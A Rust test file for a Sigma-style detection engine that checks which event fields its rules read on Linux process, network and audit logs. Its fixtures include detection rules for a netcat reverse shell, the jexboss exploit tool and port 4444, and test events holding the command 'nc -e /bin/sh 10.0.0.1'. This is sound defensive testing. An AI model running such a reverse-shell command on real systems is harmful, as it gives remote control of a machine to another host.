//! `Engine::fields_read`: the event fields the rules for a logsource read, with the names the
//! pipeline maps each to, whether the index reads it for every event, and the raw text of
//! keyword rules. Checked against evaluation: an event stripped to exactly those fields
//! matches the same rules as the full event.

use serde_json::{Map, Value as J, json};
use tripline_rules::{Engine, FieldName, LogSource, ReadWhen, RuleSet, Scratch, Settings};

fn rule(i: usize, logsource: &str, det: &str) -> String {
    format!(
        "title: r{i}\nid: 11111111-2222-4333-8444-{i:012}\nlogsource: {logsource}\ndetection:\n  {det}\n"
    )
}

fn engine() -> Engine {
    let pc = "{product: linux, category: process_creation}";
    let rules = [
        (
            pc,
            "sel:\n    Image|endswith: /nc\n    CommandLine|contains: ' -e '\n  condition: sel",
        ),
        (
            pc,
            "sel:\n    ParentImage|endswith: /node\n    CurrentDirectory: /tmp\n  condition: sel",
        ),
        (
            "{product: linux}",
            "keywords:\n    - 'jexboss'\n  condition: keywords",
        ),
        (
            "{product: linux, category: network_connection}",
            "sel:\n    DestinationPort: 4444\n  condition: sel",
        ),
    ];
    let mut set = RuleSet::new(Settings::default());
    for (i, (ls, det)) in rules.iter().enumerate() {
        set.add_str(&rule(i, ls, det), &format!("r{i}.yml"));
    }
    assert!(set.rejected.is_empty(), "{:?}", set.rejected);
    let e = Engine::new(&set);
    assert!(e.rejected().is_empty(), "{:?}", e.rejected());
    e
}

fn names(f: &tripline_rules::FieldRead) -> Vec<&str> {
    f.names.iter().map(FieldName::as_str).collect()
}

#[test]
fn lists_the_mapped_names_of_each_field_and_the_raw_text() {
    let e = engine();
    let pc = e.fields_read(&LogSource::new("linux", "process_creation", ""));
    let got: Vec<(Vec<&str>, ReadWhen)> = pc.fields.iter().map(|f| (names(f), f.when)).collect();
    // The built-in pipeline reads a Sysmon name as its ECS name first.
    assert_eq!(
        got,
        vec![
            (
                vec!["process.command_line", "CommandLine"],
                ReadWhen::Candidate
            ),
            (
                vec!["process.working_directory", "CurrentDirectory"],
                ReadWhen::Candidate
            ),
            (vec!["process.executable", "Image"], ReadWhen::EveryEvent),
            (
                vec!["process.parent.executable", "ParentImage"],
                ReadWhen::EveryEvent
            ),
        ],
        "{pc:#?}"
    );
    // The product-only keyword rule covers process_creation events too.
    let raw = pc.raw.as_ref().expect("keyword rule");
    assert_eq!(names(raw), vec!["message"]);
    assert_eq!(raw.when, ReadWhen::EveryEvent);

    let net = e.fields_read(&LogSource::new("linux", "network_connection", ""));
    assert_eq!(net.fields.len(), 1);
    assert!(names(&net.fields[0]).contains(&"DestinationPort"));
    assert!(net.raw.is_some());

    // No rule for Windows events; product-only rules reach other linux logsources.
    let win = e.fields_read(&LogSource::new("windows", "process_creation", ""));
    assert!(win.fields.is_empty() && win.raw.is_none());
    let syslog = e.fields_read(&LogSource::new("linux", "", "syslog"));
    assert!(syslog.fields.is_empty() && syslog.raw.is_some());
}

/// Keeping only the listed fields of an event changes no match.
#[test]
fn an_event_kept_to_the_fields_read_matches_the_same_rules() {
    let e = engine();
    let ls = LogSource::new("linux", "process_creation", "");
    let read = e.fields_read(&ls);
    let keep: Vec<&str> = read
        .fields
        .iter()
        .chain(&read.raw)
        .flat_map(|f| f.names.iter().map(FieldName::as_str))
        .collect();
    let events = [
        json!({"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.1", "User": "root", "message": "x"}),
        json!({"process": {"executable": "/bin/nc", "command_line": "nc -e sh h"}, "host": "a"}),
        json!({"ParentImage": "/usr/bin/node", "CurrentDirectory": "/tmp", "Hashes": "x"}),
        json!({"Image": "/bin/ls", "message": "jexboss scan", "pid": 7}),
        json!({"Image": "/bin/ls", "CommandLine": "ls -e"}),
    ];
    let mut sc = Scratch::new();
    let mut total = 0;
    for ev in &events {
        let mut full = Vec::new();
        e.evaluate(&ls, ev, &mut sc, &mut full);
        let kept = project(ev, &keep);
        let mut part = Vec::new();
        e.evaluate(&ls, &kept, &mut sc, &mut part);
        assert_eq!(full, part, "{ev} kept as {kept}");
        total += full.len();
    }
    assert_eq!(total, 4, "each of the first four events matches one rule");
}

/// The event with only the listed (possibly dotted) names.
fn project(ev: &J, keep: &[&str]) -> J {
    let mut out = Map::new();
    for name in keep {
        let mut v = ev;
        let mut found = true;
        if let Some(x) = ev.get(*name) {
            v = x;
        } else {
            for part in name.split('.') {
                match v.get(part) {
                    Some(x) => v = x,
                    None => {
                        found = false;
                        break;
                    }
                }
            }
        }
        if found {
            out.insert((*name).to_string(), v.clone());
        }
    }
    J::Object(out)
}

/// The SigmaHQ linux rules: the process_creation fields include the Sysmon taxonomy the
/// rules use, and auditd rules read raw records by their kernel names and `type`.
#[test]
fn the_linux_corpus_reads_the_sysmon_and_audit_fields() {
    let Some(dir) = tripline_testkit::corpus("sigma/rules/linux") else {
        return;
    };
    let mut set = RuleSet::new(Settings::default());
    set.load_path(&dir);
    let e = Engine::new(&set);
    let pc = e.fields_read(&LogSource::new("linux", "process_creation", ""));
    let all: Vec<&str> = pc.fields.iter().flat_map(names).collect();
    for n in [
        "Image",
        "CommandLine",
        "ParentImage",
        "User",
        "CurrentDirectory",
    ] {
        assert!(all.contains(&n), "{n} not in {all:?}");
    }
    assert!(pc.fields.iter().any(|f| f.when == ReadWhen::EveryEvent));
    let audit = e.fields_read(&LogSource::new("linux", "", "auditd"));
    let all: Vec<&str> = audit.fields.iter().flat_map(names).collect();
    for n in ["type", "SYSCALL", "exe", "a0"] {
        assert!(all.contains(&n), "{n} not in {all:?}");
    }
    // `type` gates the audit plan: read for every record; `exe` only for the record types
    // whose rules are indexed on it.
    let when = |n: &str| {
        audit
            .fields
            .iter()
            .find(|f| names(f).contains(&n))
            .map(|f| f.when)
    };
    assert_eq!(when("type"), Some(ReadWhen::EveryEvent));
    assert_eq!(when("exe"), Some(ReadWhen::Gated));
    assert!(audit.raw.is_some(), "linux keyword rules read raw records");
}
